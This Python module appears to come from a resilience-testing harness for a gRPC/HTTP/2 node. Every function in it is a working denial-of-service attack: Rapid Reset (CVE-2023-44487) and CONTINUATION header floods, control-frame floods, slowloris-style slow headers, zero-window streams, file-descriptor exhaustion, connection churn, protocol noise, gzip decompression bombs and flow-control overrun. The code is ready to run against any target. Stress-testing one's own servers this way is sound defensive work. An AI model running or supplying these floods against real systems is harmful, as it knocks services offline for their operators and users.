"""What abuses a node, each from one process on one core: a name, and what it sends for how long.

Each takes (target, http, until, counts): whom, its HTTP address or None, until when by the monotonic clock, and a dict that says
what was done. All that they hold ends with their process. Bounds are beside each.
"""

import gzip
import itertools
import os
import resource
import selectors
import socket
import time

import http2
from honest import PATH, REQUEST

READ_BYTES = 1 << 18
CONNECTS_AT_ONCE = 64
HEAD_TABLE_REQUESTS = 100_000  # on one connection, then another
BLOCK = 1_000
GZIP_BOMB_BYTES = 60 << 20  # packed it fits into the first window
FILES_KEPT = 64  # of the attacker's own descriptors


class Flood:
    """Connections that each send what `chunks(number)` yields, as fast as it is taken, and begin anew when that is over or
    they are cut off."""

    def __init__(self, target, counts, chunks, connections, reads=True, pace=None):
        self.target, self.counts, self.chunks = target, counts, chunks
        self.size, self.reads, self.pace = connections, reads, pace  # connections a second; None: at once
        self.selector = selectors.DefaultSelector()
        self.number = 0
        self.open = 0

    def run(self, until):
        again_at = 0.0
        while (now := time.monotonic()) < until:
            if self.open < self.size and now >= again_at:
                again_at = now + (1 / self.pace if self.pace else 0.0)
                if not self._connect_some(1 if self.pace else CONNECTS_AT_ONCE):
                    again_at = now + 0.05  # it is full
            for key, events in self.selector.select(min(0.05, until - now)):
                self._turn(key.fileobj, key.data, events)
        self.counts["connections at the end"] = self.open

    def _connect_some(self, most):
        for _ in range(min(most, self.size - self.open)):
            try:
                connecting = self.target.connect()
            except OSError as error:
                self.counts[error.strerror or "errors"] = self.counts.get(error.strerror or "errors", 0) + 1
                return False
            state = {"chunks": self.chunks(self.number), "left": memoryview(b""), "due": 0.0}
            self.selector.register(connecting, selectors.EVENT_READ | selectors.EVENT_WRITE, state)
            self.number += 1
            self.open += 1
            self.counts["connections"] = self.counts.get("connections", 0) + 1
        return True

    def _turn(self, connection, state, events):
        try:
            if events & selectors.EVENT_READ:
                if self.reads and not connection.recv(READ_BYTES):
                    raise ConnectionResetError
                if not self.reads and not connection.recv(1, socket.MSG_PEEK):
                    raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                self._send(connection, state)
        except BlockingIOError:
            pass
        except (OSError, StopIteration) as end:
            what = "cut off" if isinstance(end, OSError) else "played to its end"
            self.counts[what] = self.counts.get(what, 0) + 1
            self.selector.unregister(connection)
            connection.close()
            self.open -= 1

    def _send(self, connection, state):
        if not state["left"]:
            chunk = next(state["chunks"])
            if chunk is None:  # nothing more, but it stays
                self.selector.modify(connection, selectors.EVENT_READ if self.reads else 0, state)
                return
            state["left"] = memoryview(chunk)
        sent = connection.send(state["left"])
        state["left"] = state["left"][sent:]
        self.counts["bytes"] = self.counts.get("bytes", 0) + sent


HELLO = http2.PREFACE + http2.settings()


def hold(*chunks):
    """Sends these and stays."""
    yield from chunks
    yield from itertools.repeat(None)


def calls(target, end, streams=HEAD_TABLE_REQUESTS, begin=HELLO):
    """Chunks of so many heads, each followed by `end(stream)`."""
    first = http2.request_head(PATH, target.authority, keep=True)
    yield begin + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, first) + end(1)
    for at in range(3, 2 * streams, 2 * BLOCK):
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.REPEATED_HEAD) + end(stream)
                       for stream in range(at, min(at + 2 * BLOCK, 2 * streams), 2))


def reset(stream):
    return http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")


def ask(stream):
    return http2.frame(http2.DATA, http2.END_STREAM, stream, REQUEST)


def prepared(chunks):
    """The same for each connection, made once: what the attacker works is not what the node is to be held against."""
    made = list(chunks)
    return lambda number: iter(made)


def resets(target, http, until, counts):
    """CVE-2023-44487: calls that are taken back at once, on 8 connections."""
    Flood(target, counts, prepared(calls(target, reset)), connections=8).run(until)


def reset_calls(target, http, until, counts):
    """The same, taken back when they are whole and so have begun."""
    Flood(target, counts, prepared(calls(target, lambda stream: ask(stream) + reset(stream))), connections=8).run(until)


def headers(target, http, until, counts):
    """CVE-2023-33953: heads without an end, on 6 connections: small fields for ever; one field of 16 MiB in small pieces;
    a number with zeros for ever."""
    small = http2.frame(http2.CONTINUATION, 0, 1, http2.field(b"x-a", b"b") * 200) * 50
    begin = HELLO + http2.frame(http2.HEADERS, 0, 1, http2.request_head(PATH, target.authority))
    huge = begin + http2.frame(http2.CONTINUATION, 0, 1, b"\0" + http2.text(b"x-a") + http2.integer(16 << 20, 7, 0))
    piece = http2.frame(http2.CONTINUATION, 0, 1, b"b" * 16) * 400
    zeros = begin + http2.frame(http2.CONTINUATION, 0, 1, b"\0" + http2.text(b"x-a") + b"\x7f")
    zero = http2.frame(http2.CONTINUATION, 0, 1, b"\x80" * 16) * 400
    ways = ((begin, small), (huge, piece), (zeros, zero))

    def chunks(number):
        first, rest = ways[number % len(ways)]
        yield first
        yield from itertools.repeat(rest, 10_000)
    Flood(target, counts, chunks, connections=6).run(until)


def pings(target, http, until, counts):
    """PING, SETTINGS, PRIORITY and WINDOW_UPDATE for ever, on 8 connections."""
    ways = (http2.frame(http2.PING, 0, 0, b"12345678"), http2.settings(INITIAL_WINDOW_SIZE=65_535),
            http2.frame(http2.PRIORITY, 0, 1, b"\0\0\0\0\x10"), http2.frame(http2.WINDOW_UPDATE, 0, 7, b"\0\0\0\1"))

    def chunks(number):
        yield HELLO
        yield from itertools.repeat(ways[number % len(ways)] * 4_000, 10_000)
    Flood(target, counts, chunks, connections=8).run(until)


def slow_headers(target, http, until, counts):
    """1,000 connections with a head that comes a byte a second, or a hello that does."""
    head = http2.frame(http2.HEADERS, 0, 1, http2.request_head(PATH, target.authority))
    open_ones = []
    while time.monotonic() < until:
        begun = time.monotonic()
        for one in list(open_ones):
            try:
                one[0].send(one[1][one[2]:one[2] + 1])
                one[2] += 1
                counts["bytes"] = counts.get("bytes", 0) + 1
            except OSError:
                counts["cut off"] = counts.get("cut off", 0) + 1
                one[0].close()
                open_ones.remove(one)
        while len(open_ones) < 1_000 and time.monotonic() - begun < 0.5:
            try:
                connection = target.connect()
            except OSError:
                break
            counts["connections"] = counts.get("connections", 0) + 1
            open_ones.append([connection, HELLO + head if len(open_ones) % 2 else http2.PREFACE * 10, 0])
            if len(open_ones) % 2 == 0:
                open_ones[-1][2] = len(HELLO)
                connection.setblocking(True)
                connection.sendall(HELLO)
                connection.setblocking(False)
        time.sleep(max(0.0, min(until, begun + 1.0) - time.monotonic()))


def half_calls(target, http, until, counts):
    """Calls whose request never comes: 1,000 on each of 64 connections, of which four come a second."""
    made = list(calls(target, lambda stream: b"", streams=1_000))
    Flood(target, counts, lambda number: hold(*made), connections=64, pace=4).run(until)


def unread(target, http, until, counts):
    """Calls whose answers are not taken (a window of nothing): 1,000 on each of 64 connections, of which four come a
    second, and which are not read."""
    begin = http2.PREFACE + http2.settings(INITIAL_WINDOW_SIZE=0)
    made = list(calls(target, ask, streams=1_000, begin=begin))
    Flood(target, counts, lambda number: hold(*made), connections=64, reads=False, pace=4).run(until)


def _files_left():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard - len(os.listdir("/proc/self/fd")) - FILES_KEPT


def connections(target, http, until, counts):
    """10,000 connections that say hello and then nothing, or as many as there are descriptors for."""
    Flood(target, counts, lambda number: hold(HELLO), connections=min(10_000, _files_left())).run(until)


def descriptors(target, http, until, counts):
    """As many as 20,000 connections that say nothing, over gRPC and HTTP in turn."""
    end, held = min(20_000, _files_left()), []
    while time.monotonic() < until:
        for whom in filter(None, (target, http)):
            if len(held) < end:
                try:
                    held.append(whom.connect())
                    counts["connections"] = counts.get("connections", 0) + 1
                except OSError:
                    counts["refused"] = counts.get("refused", 0) + 1
        if len(held) >= end or len(held) % 64 == 0:
            held = [one for one in held if not _is_over(one)]
            time.sleep(0.01)
    counts["connections at the end"] = len([one for one in held if not _is_over(one)])


def _is_over(connection):
    try:
        over = not connection.recv(1, socket.MSG_PEEK)
    except BlockingIOError:
        over = False
    except OSError:
        over = True
    if over:
        connection.close()
    return over


def churn(target, http, until, counts):
    """Connections that say hello and end, one after the other, 64 at a time."""
    Flood(target, counts, lambda number: iter([HELLO]), connections=64).run(until)


def languages(target, http, until, counts):
    """TLS, HTTP/1.1 and noise, on a connection each time."""
    client_hello = bytes.fromhex("16030100c8010000c40303") + os.urandom(32) + bytes(152)
    said = (client_hello, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", os.urandom(4096), http2.PREFACE[:10],
            HELLO + http2.frame(http2.HEADERS, http2.END_HEADERS, 2, b"\xff" * 32))
    Flood(target, counts, lambda number: hold(said[number % len(said)]), connections=64).run(until)


def bombs(target, http, until, counts):
    """Requests of 60 KiB that are 60 MiB when they are unpacked: 25 a second on each of 4 connections."""
    packed = gzip.compress(bytes(GZIP_BOMB_BYTES))
    head = http2.request_head(PATH, target.authority, (b"grpc-encoding", b"gzip"))
    whole = http2.message(packed, compressed=True)
    pieces = [http2.frame(http2.DATA, 0, 0, whole[at:at + 16_384]) for at in range(0, len(whole), 16_384)]

    def call(stream):
        framed = [piece[:5] + stream.to_bytes(4, "big") + piece[9:] for piece in pieces]
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head) + b"".join(framed)

    def chunks(number):
        yield HELLO
        due = time.monotonic()
        for stream in range(1, 100_000, 2):
            while time.monotonic() < due:
                yield b""
            yield call(stream)
            due += 1 / 25
    Flood(target, counts, chunks, connections=4).run(until)


def overrun(target, http, until, counts):
    """Requests of a megabyte that don't wait for credit, as fast as they are taken, on 4 connections."""
    whole = http2.message(bytes((1 << 20) - 64))
    head = http2.request_head(PATH, target.authority)

    def call(stream):
        ends = range(0, len(whole), 16_384)
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head) + b"".join(
            http2.frame(http2.DATA, http2.END_STREAM if at == ends[-1] else 0, stream, whole[at:at + 16_384]) for at in ends)
    Flood(target, counts, lambda number: itertools.chain([HELLO], map(call, range(1, 100_000, 2))), connections=4).run(until)


def spin(target, http, until, counts):
    """Nothing: how the honest callers fare beside a process that is as busy as the others."""
    while time.monotonic() < until:
        counts["rounds"] = counts.get("rounds", 0) + 1


ATTACKS = {attack.__name__.replace("_", "-"): attack
           for attack in (spin, resets, reset_calls, headers, pings, slow_headers, half_calls, unread, connections, descriptors,
                          churn, languages, bombs)}
# What the node is not defended against. Only by name.
BY_NAME = {"overrun": overrun}
